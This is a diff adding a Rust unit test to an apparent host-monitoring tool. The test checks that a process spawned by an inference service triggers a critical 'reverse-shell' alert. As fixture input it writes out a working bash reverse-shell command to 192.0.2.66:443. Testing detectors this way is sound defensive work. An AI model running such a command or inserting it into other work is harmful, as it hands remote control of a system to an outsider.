@@ -212,3 +212,24 @@ fn observing_raises_no_alert_about_what_is_not_allowed() {
     host.connects(Some(10), [192, 0, 2, 7], 100);
     assert!(host.rules().is_empty());
 }
+
+#[test]
+fn rules_over_events_are_asked_of_what_is_seen() {
+    let mut host = Host::new(POLICY);
+    host.opens(10, 1, 1000);
+    host.scanned(1, Verdict::Clean, &[], 1010);
+    host.runs(11, Some(10), "bash -i >& /dev/tcp/192.0.2.66/443 0>&1", 1300);
+    let alerts = host.alerts();
+    let found = alerts.iter().find(|alert| alert.rule == "reverse-shell").expect("told");
+    assert_eq!(
+        (found.severity, found.service.as_str()),
+        (wb_core::Severity::Critical, "inference")
+    );
+    assert!(found.techniques.contains(&"T1059.004"));
+    assert!(found.chain.starts_with("bash <- python3 (loaded"), "{}", found.chain);
+    // What the monitor judges itself is told once, by its own detection.
+    assert!(alerts.iter().any(|alert| alert.rule == "serving-process-runs-command"));
+    assert!(alerts.iter().all(|alert| alert.rule != "inference-spawns-shell"));
+    host.runs(12, Some(10), "python3 worker.py", 1400);
+    assert!(host.rules().is_empty());
+}
